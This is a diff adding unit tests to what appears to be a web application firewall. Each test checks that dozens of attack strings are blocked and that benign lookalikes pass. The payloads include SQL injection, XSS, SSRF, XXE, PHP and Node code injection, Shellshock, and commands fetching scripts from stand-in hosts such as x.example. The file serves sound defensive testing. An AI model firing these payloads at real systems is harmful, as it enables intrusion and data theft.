@@ -56,6 +56,13 @@ def xml_body(text: str) -> Request:
                    text.encode())
 
 
+def upload(filename: str, content: str) -> Request:
+    body = (f'--b\r\nContent-Disposition: form-data; name="f"; filename="{filename}"\r\n\r\n'
+            f"{content}\r\n--b--\r\n").encode()
+    return Request(b"POST", b"/upload", BROWSER + [
+        (b"Content-Type", b"multipart/form-data; boundary=b")], body)
+
+
 class ClassCase(SynchronousTestCase):
     """Base: helpers that check a verdict."""
 
@@ -84,6 +91,21 @@ class SQLiTests(ClassCase):
             self.blocked(query(payload), "sqli")
         self.blocked(json_body('{"id": "1\' or 1=1--"}'), "sqli")
 
+    def test_expression_values(self) -> None:
+        """A value or name that opens with a SQL function call, a login closed with ';, MySQL's 1.e."""
+        for payload in ("substr(password,1,1)", "concat(0x3a,user())", "md5(", "Left(", "trim()",
+                        "admin@example.org';", "bob\";", "1.e(ascii(user()))", "0.e.tables",
+                        "select pg_sleep"):
+            self.blocked(query(payload), "sqli")
+        self.blocked(Request(b"POST", b"/post", BROWSER + [
+            (b"Content-Type", b"application/x-www-form-urlencoded")], b"Compress%20%28"), "sqli")
+
+    def test_expression_lookalikes(self) -> None:
+        """English words before a parenthesis, code that ends in ';, versions and decimals."""
+        for text in ("Left (driver side)", "Trim (optional)", "Upper (3rd floor)", "count (approx.)",
+                     "x = 'a';", "Version 1.e2 notes", "1.5e3 items", "md5 checksum of the file"):
+            self.passes(query(text))
+
     def test_lookalikes(self) -> None:
         """Prose with SQL words, names with quotes, inch marks."""
         for text in ("select the best union of colors", "O'Reilly", "Tom & Jerry", "drop earrings",
@@ -103,6 +125,12 @@ class XSSTests(ClassCase):
             self.blocked(query(payload), "xss")
         encoded = base64.b64encode(b"<script>alert(1)</script>").decode()
         self.blocked(header("X-Data", encoded), "xss")
+
+    def test_high_bit_markup(self) -> None:
+        """Markup with the high bit set (\\xbcscript\\xbe), which 7-bit decoders read as <script>."""
+        self.blocked(query("\\xbcscript\\xbealert(1)\\xbc/script\\xbe"), "xss")
+        self.blocked(query("\u00bcscript\u00bealert(1)\u00bc/script\u00be"), "xss")
+        self.passes(query("Add \u00bc cup of sugar and \u00be cup of flour"))
 
     def test_lookalikes(self) -> None:
         """Rich-text HTML, JSX, markdown, prose about JavaScript."""
@@ -124,11 +152,23 @@ class TraversalTests(ClassCase):
         self.blocked(query("....//....//boot.ini"), "lfi")
         self.blocked(query("/proc/self/environ"), "lfi")
 
+    def test_hex_separators(self) -> None:
+        """Dot segments with the slash written as a hexadecimal literal (..0x2f)."""
+        self.blocked(query("..0x2f..0x2f..0x2fetc0x2fgroup"), "lfi")
+        self.blocked(query("..0x5c..0x5cwindows0x5cwin.ini"), "lfi")
+
     def test_lookalikes(self) -> None:
         """Relative links in HTML, ellipses, a path in prose."""
         self.passes(form(content='<a href="../about.html">About us</a>'))
         self.passes(query("wait... what?"))
         self.passes(query("the file is in my documents folder"))
+
+    def test_windows_folders(self) -> None:
+        """Ordinary Windows folders (user profiles, Program Files) are not system files."""
+        self.passes(json_body('{"path": "C:\\\\Program Files\\\\Example\\\\app.exe"}'))
+        self.passes(form(note="Saved it to C:\\Users\\anna\\AppData\\Roaming\\App\\settings.ini"))
+        self.passes(query("C:/Users/Public/Documents"))
+        self.blocked(query("C:\\Windows\\System32\\drivers\\etc\\hosts"), "lfi")
 
 
 class RemoteInclusionTests(ClassCase):
@@ -140,10 +180,28 @@ class RemoteInclusionTests(ClassCase):
         self.blocked(Request(b"GET", b"/index.php?page=1&include=http://evil.example/x", BROWSER),
                      "rfi")
 
+    def test_scheme_less(self) -> None:
+        """A protocol-relative URL cut with ?, a UNC path to a host, a # after a script name."""
+        self.blocked(query("//files.evil.example/x.txt?"), "rfi")
+        self.blocked(query("\\\\198.51.100.7\\share\\evil.php"), "rfi")
+        self.blocked(query("\\\\files.evil.example\\pub\\x.php"), "rfi")
+        self.blocked(query("https://files.evil.example/inc.php#"), "rfi")
+
     def test_lookalikes(self) -> None:
         """Redirect and link parameters with ordinary URLs."""
         self.passes(Request(b"GET", b"/login?next=https%3A%2F%2Fshop.test%2Fcart&ref=https://t.co/x",
                             BROWSER))
+
+    def test_indexed_include_names(self) -> None:
+        """An include-style parameter with an index given a URL (_CONF[path]=https://...)."""
+        self.blocked(Request(b"GET", b"/plugins/x.php?_CONF[path]=https://files.evil.example/",
+                             BROWSER), "rfi")
+        self.passes(Request(b"GET", b"/map?path=%2Fdocs%2Fintro&layout=wide", BROWSER))
+
+    def test_fragment_urls(self) -> None:
+        """A JSON Schema URI and a link that end in # are not cut-off includes."""
+        self.passes(json_body('{"$schema": "http://json-schema.org/draft-07/schema#", "type": "object"}'))
+        self.passes(query("https://example.org/guide#"))
 
 
 class CommandInjectionTests(ClassCase):
@@ -161,6 +219,44 @@ class CommandInjectionTests(ClassCase):
         for payload in ("& dir c:\\", "| type C:\\boot.ini", "powershell -enc SQBFAFgA",
                         "cmd.exe /c whoami", "& w^ho^am^i"):
             self.blocked(query(payload), "rce")
+
+    def test_more_commands(self) -> None:
+        """Admin tools after a separator, an empty variable before a command, quoted names,
+        PowerShell aliases, alias definitions, regedit."""
+        for payload in ("time; ansible-playbook site.yml", ";visudo", "|$u wget x.example/a",
+                        ";'rmt' --version", "; iwr http://x.example/a.ps1", "alias ls-al='ls -al'",
+                        "alias -p x=id", "; regedit /E c:\\a.reg HKEY_CURRENT_USER\\Run",
+                        ";chef-client -t 1.1.1.1"):
+            self.blocked(query(payload), "rce")
+
+    def test_more_commands_lookalikes(self) -> None:
+        """Recipes and prose with words that name tools; aliases in prose and code spans."""
+        for text in ("Season with pepper; salt to taste", "Kids loved it; puppet shows are great",
+                     "Attitude & aptitude", "My alias is Bobby", "The alias Bob=Robert is on file",
+                     "My .bashrc has `alias ll='ls -alF'` in it"):
+            self.passes(form(message=text))
+
+    def test_server_side_javascript(self) -> None:
+        """Node.js globals reached through computed names, the module loader, RSC references."""
+        for payload in ('process["env"]', "require[req.query.a]", 'console["info"](1)',
+                        "console.log.call(this,1)", "#{require.main.constructor._load('fs')}",
+                        '{"then":"$1:__proto__:then","_formData":{"get":"$3:constructor:constructor"}}'):
+            self.blocked(query(payload), "rce")
+        self.passes(query("see process[step 2] of the guide"))
+        self.passes(json_body('{"price": "$1:00", "note": "constructor of the house"}'))
+
+    def test_line_break(self) -> None:
+        """A command on a line of its own at the end of a value (x%0aid, %0awhoami, %0asleep 7)."""
+        for payload in ("example.org\nid", "8.8.8.8\nwhoami", "a\r\nsleep 7", "x\nls -la /",
+                        "host\n/usr/bin/uname -a"):
+            self.blocked(query(payload), "rce")
+
+    def test_line_break_lookalikes(self) -> None:
+        """GraphQL field lists, lists of things with numbers, a code block followed by prose."""
+        self.passes(json_body('{"query": "query {\\n  product(id: 5) {\\n    id\\n    name\\n  }\\n  env\\n}"}'))
+        self.passes(form(message="Pets at home:\ndog 2\ncat 1"))
+        self.passes(form(message="See you on Monday!\nPS bring the slides"))
+        self.passes(form(message="Run this:\n\nls -la\n\nand paste the output here."))
 
     def test_lookalikes(self) -> None:
         """Command names as words, markdown code fences, a cat in prose."""
@@ -183,6 +279,31 @@ class CodeInjectionTests(ClassCase):
         self.blocked(Request(b"POST", b"/upload", BROWSER + [
             (b"Content-Type", b"multipart/form-data; boundary=b")], upload), "php")
 
+    def test_php_handlers(self) -> None:
+        """A planted .htaccess: directives that make uploads run as PHP."""
+        self.blocked(upload("notes.txt", "AddType application/x-httpd-php .png\n"), "php")
+        self.blocked(upload("x", "<FilesMatch \\.jpg>\nSetHandler application/x-httpd-php\n</FilesMatch>"),
+                     "php")
+        self.blocked(form(cfg="php_value auto_prepend_file /tmp/x.png"), "php")
+        self.passes(form(note="Apache needs AddType image/svg+xml .svg for the icons"))
+
+    def test_php_callables(self) -> None:
+        """Functions called through strings and expressions, variable functions with comments."""
+        for payload in ("('system')('id')", '"sys"."tem"(\'id\');', "(sy.(st).em)('uname');",
+                        '"system"(ls);', "(['system'])[0]('uname');", "return\"system\"(xyz)",
+                        "$__[$_[1]](7)", "$_aB[@5]/*x*/[@d] ()", "$a //x\n()"):
+            self.blocked(query(payload), "php")
+        for text in ('log("x");', "$(\"#id\").hide();", 'He said "hi" (twice)', "foo(bar);"):
+            self.passes(query(text))
+
+    def test_upload_name_evasions(self) -> None:
+        """Script extensions after a space, with digits, .phpt; a PHP tag as a cookie name."""
+        for name in ("photo. php", "x.php7", "dangerous.phpt", "shell. jsp", "wp-config. php"):
+            self.blocked(upload(name, "x"), "php" if "jsp" not in name else "java")
+        self.blocked(header("Cookie", "<?php phpinfo(); ?>=value"), "php")
+        for name in ("Star Wars. war photos.jpg", "notes. ear infection.pdf", "report. final.docx"):
+            self.passes(upload(name, "x"))
+
     def test_java(self) -> None:
         """Log4Shell and its obfuscations, OGNL, deserialization."""
         for value in ("${jndi:ldap://x.example/a}", "${${lower:j}${lower:n}di:ldap://x/a}",
@@ -199,6 +320,13 @@ class CodeInjectionTests(ClassCase):
             verdict = engine().inspect(request, POLICY)
             self.assertTrue(verdict.blocked, payload)
 
+    def test_ssti_server_state(self) -> None:
+        """Twig expressions that dump the request's server variables or the whole context."""
+        self.blocked(query("{{app.request.server.all|join(',')}}"), "ssti")
+        self.blocked(query("{{ _context|keys|join }}"), "ssti")
+        self.blocked(query("{{ source('/etc/passwd') }}"), "ssti")
+        self.passes(query("Hi {{ app.user.name }}, see {{ context }}"))
+
     def test_lookalikes(self) -> None:
         """Template syntax in ordinary text, Java in prose."""
         self.passes(query("Hello {{ user.name }}, welcome"))
@@ -214,6 +342,45 @@ class RequestForgeryTests(ClassCase):
         for value in ("http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_x",
                       "file:///etc/passwd", "http://2130706433/admin", "http://metadata.google.internal/"):
             self.blocked(query(value), "ssrf")
+
+    def test_ssrf_disguised_addresses(self) -> None:
+        """Metadata and loopback in IPv6 spellings, IPv4 hosts as one number or octal/hex parts."""
+        for value in ("http://[0:0:0:0:0:ffff:a9fe:a9fe]/", "http://[::a9fe:a9fe]/latest/",
+                      "http://[0:0:0:0:0:ffff:7f00:1]:8080/", "http://017700000001/",
+                      "http://3232235521/admin", "http://0xc0.0xa8.0.1/", "http://0300.0250.0.1/",
+                      "http://10.65537/"):
+            self.blocked(query(value), "ssrf")
+
+    def test_ssrf_loopback_names(self) -> None:
+        """Names that resolve to loopback without a scheme, a scheme without slashes."""
+        for value in ("lvh.me/", "app.localtest.me:8080/admin", "http:127.0.0.1", "https:[::1]/"):
+            self.blocked(query(value), "ssrf")
+        self.passes(query("http://example.com/lvh.me/guide"))
+
+    def test_ssrf_lookalikes(self) -> None:
+        """Host names with digits, numbers in paths."""
+        for value in ("https://2024.conference.example/", "https://release-20241203.example.org/",
+                      "https://cdn.example.com/0x1f/logo.png", "https://10.example.net/a"):
+            self.passes(query(value))
+
+    def test_xxe_expansion_and_xslt(self) -> None:
+        """Entities that nest other entities, XSLT reading properties or files."""
+        self.blocked(xml_body('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "xx">'
+                              '<!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'), "xxe")
+        self.blocked(xml_body('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/'
+                              'Transform"><xsl:template match="/"><xsl:value-of select="system-property'
+                              '(\'xsl:vendor\')"/></xsl:template></xsl:stylesheet>'), "xxe")
+        self.blocked(xml_body('<x xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:copy-of '
+                              'select="document(\'/etc/passwd\')"/></x>'), "xxe")
+        self.passes(xml_body('<?xml version="1.0"?><doc><title>Document (draft) &amp; notes</title>'
+                             '<p>Tom &amp; Jerry &amp; friends</p></doc>'))
+
+    def test_xinclude_namespace(self) -> None:
+        """A body that declares the XInclude namespace, whatever the include points at."""
+        self.blocked(xml_body('<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include '
+                              'href="http://x.example/"/></a>'), "xxe")
+        self.passes(xml_body('<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
+                             'xsi:noNamespaceSchemaLocation="a.xsd"><b>1</b></a>'))
 
     def test_xxe(self) -> None:
         """External entities in a body and in a parameter."""
@@ -238,10 +405,32 @@ class InjectionTests(ClassCase):
         self.blocked(json_body('{"user": "admin", "password": {"$gt": ""}}'), "nosqli")
         self.blocked(query("'; return true; var x='"), "nosqli")
 
+    def test_nosqli_return(self) -> None:
+        """A JavaScript return statement that ends a $where string early with a comparison."""
+        for payload in ("'; return '' == '", "x'; return a == a; var b='", "'; return !0; //"):
+            self.blocked(query(payload), "nosqli")
+        self.passes(form(code="const s = 'a'; return s;"))
+
     def test_ldapi(self) -> None:
         """Filters closed and opened."""
         self.blocked(query("*)(uid=*))(|(uid=*"), "ldapi")
         self.blocked(query("admin)(&(objectClass=*)"), "ldapi")
+
+    def test_ldapi_nested_open(self) -> None:
+        """A filter closed, then several opened before the operator ()((|attr=*)."""
+        self.blocked(query("admin*)((|userPassword=*)"), "ldapi")
+        self.passes(query("(a+b)(c+d) = ac + ad + bc + bd"))
+
+    def test_crlf_forged_body(self) -> None:
+        """An entity header, a blank line and markup: a response body forged through a field."""
+        self.blocked(form(name="x\r\nContent-Type: text/html\r\n\r\n<h1>Sale</h1>"), "crlf")
+        self.passes(form(message="Order details:\r\nContent: 2 shirts\r\n\r\nThanks!"))
+
+    def test_shellshock_cookie_header(self) -> None:
+        """A Cookie header that is only a function definition (read as cookie names)."""
+        self.blocked(header("Cookie", "() { _; } >_[$($())] { id; }"), "shellshock")
+        self.blocked(header("Cookie", "() { :; }; /usr/bin/id"), "shellshock")
+        self.passes(header("Cookie", "theme=dark; layout=(wide); note={x}"))
 
     def test_crlf(self) -> None:
         """Response splitting and mail header injection."""
@@ -268,6 +457,25 @@ class ScannerAndProtocolTests(ClassCase):
         for path in (b"/.git/config", b"/.env", b"/actuator/env", b"/backup.sql"):
             self.blocked(Request(b"GET", path, BROWSER), "scanner")
 
+    def test_backup_and_deployment_probes(self) -> None:
+        """Site backups and dumps, deployment and CI files near the top of the site."""
+        for path in (b"/backup.tar.gz", b"/db.sql.gz", b"/www.zip", b"/old/site-backup.7z",
+                     b"/docker-compose.yml", b"/app/Dockerfile", b"/terraform.tfstate",
+                     b"/.github/workflows/deploy.yml", b"/config/master.key"):
+            self.blocked(Request(b"GET", path, BROWSER), "scanner")
+
+    def test_admin_tools(self) -> None:
+        """Probes for database and server admin tools block on their own."""
+        for path in (b"/phpmyadmin/index.php", b"/manager/html", b"/adminer.php"):
+            self.blocked(Request(b"GET", path, BROWSER), "scanner")
+        self.passes(Request(b"GET", b"/admin/orders", BROWSER))
+
+    def test_backup_lookalikes(self) -> None:
+        """Release archives and files deep in a code-hosting site's tree."""
+        for path in (b"/downloads/release-2.4.tar.gz", b"/team/repo/src/branch/main/Dockerfile",
+                     b"/team/repo/raw/main/docker-compose.yml", b"/docs/docker-compose-guide"):
+            self.passes(Request(b"GET", path, BROWSER))
+
     def test_protocol(self) -> None:
         """Odd methods, NUL bytes, overlong escapes, method overrides, smuggled requests."""
         self.blocked(Request(b"TRACE", b"/", BROWSER), "protocol")
@@ -276,6 +484,53 @@ class ScannerAndProtocolTests(ClassCase):
         self.blocked(header("X-HTTP-Method-Override", "TRACE"), "protocol")
         self.blocked(Request(b"GET", b"/", BROWSER + [(b"Content-Length", b"5")], b"hello"),
                      "protocol")
+
+    def test_parser_confusion(self) -> None:
+        """Content types without a subtype or of no multipart kind, unknown charsets, a media type
+        as a parameter, line breaks in the path, chunked GETs, proxy socket targets, cookie
+        attributes as cookies."""
+        def post(content_type: bytes, body: bytes = b"a=1") -> Request:
+            return Request(b"POST", b"/submit", BROWSER + [(b"Content-Type", content_type)], body)
+        for request in (post(b"json", b'{"a": 1}'), post(b"multipart/; boundary=x"),
+                        post(b"multipart/foo; boundary=x"), post(b"application"),
+                        post(b"application/x-www-form-urlencoded; charset=garbage"),
+                        post(b'application/x-www-form-urlencoded; charset="utf-80"'),
+                        post(b'application/x-www-form-urlencoded;boundary="application/json"'),
+                        Request(b"GET", b"/foo%0abar", BROWSER),
+                        Request(b"GET", b"/", BROWSER + [(b"Transfer-Encoding", b"chunked")],
+                                b"3\r\nabc\r\n0\r\n\r\n"),
+                        Request(b"GET", b"/?unix:/run/x.sock|http://backend.example/", BROWSER),
+                        header("Cookie", "$Version=1; session=abc")):
+            self.blocked(request, "protocol")
+
+    def test_parser_confusion_lookalikes(self) -> None:
+        """Ordinary content types and charsets, an encoded space in a path."""
+        def post(content_type: bytes, body: bytes = b"a=1") -> Request:
+            return Request(b"POST", b"/submit", BROWSER + [(b"Content-Type", content_type)], body)
+        for content_type in (b"application/x-www-form-urlencoded; charset=UTF-8",
+                             b"text/plain;charset=utf-8", b'application/json; charset="utf-8"',
+                             b"application/x-www-form-urlencoded; charset=ISO-8859-1",
+                             b"text/xml; charset=windows-1252", b"application/csp-report",
+                             b"multipart/related; type=\"application/xop+xml\"; boundary=x"):
+            self.passes(post(content_type))
+        self.passes(Request(b"GET", b"/files/annual%20report%200a.pdf", BROWSER))
+
+    def test_session_names(self) -> None:
+        """Session identifiers of other platforms passed in a link from elsewhere."""
+        for name in (b"phpsession", b"weblogicsession", b"session-id", b"jservsession"):
+            self.blocked(Request(b"GET", b"/login?" + name + b"=abc123", BROWSER + [
+                (b"Referer", b"https://elsewhere.example/")]), "protocol")
+        self.passes(Request(b"GET", b"/assessment?sessions=3&obsessive=no", BROWSER + [
+            (b"Referer", b"https://elsewhere.example/")]))
+
+    def test_more_probes(self) -> None:
+        """Redis dumps, private keys, editor backups before a path, files in hidden folders."""
+        for path in (b"/dump.rdb", b"/etc/letsencrypt/live/example.org/privkey.pem",
+                     b"/index.php~/foo", b"/.n8n/config", b"/.kiro/hooks/pre.sh"):
+            verdict = engine().inspect(Request(b"GET", path, BROWSER), POLICY)
+            self.assertTrue(verdict.blocked, path)
+        for path in (b"/.well-known/security.txt", b"/static/app~1.js", b"/docs/config"):
+            self.passes(Request(b"GET", path, BROWSER))
 
     def test_lookalikes(self) -> None:
         """Health checks, assets, WebDAV, an API client, .well-known."""
